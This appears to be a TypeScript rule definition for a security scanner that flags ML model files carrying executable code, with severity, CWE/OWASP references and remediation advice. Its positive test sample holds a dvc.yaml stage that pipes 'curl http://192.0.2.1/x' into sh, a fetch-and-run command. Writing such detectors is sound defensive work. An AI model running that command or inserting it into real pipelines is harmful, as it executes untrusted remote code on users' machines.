// Code in a model, in whatever language.

import { defineRule } from '../../define-rule.ts';

export const runsCode = defineRule({
  id: 'embedded-code/runs-code',
  title: 'This model carries code of its own',
  category: 'code-execution',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [94, 506],
  owasp: ['ML06:2023', 'LLM03:2025'],
  atlas: ['AML.T0010.003', 'AML.T0011.000'],
  tags: ['code'],
  message: '{format} holds {language} code ({what}) at {place}, which runs {when}: {excerpt}',
  why: 'The code runs in the process that loads or uses the model, with its rights, and whoever wrote the model wrote the code.',
  fix: [
    'Read the code before you use the model',
    'Ask the author for a model without code, or rebuild it from data',
  ],
  falsePositives: 'Models whose format has no other way to express a step.',
  samples: {
    fires: ['text(dvc.yaml): stages:\n  train:\n    cmd: curl http://192.0.2.1/x | sh\n'],
    silent: ['text(dvc.yaml): stages:\n  train:\n    cmd: python train.py\n    outs:\n      - model.pkl\n'],
  },
});
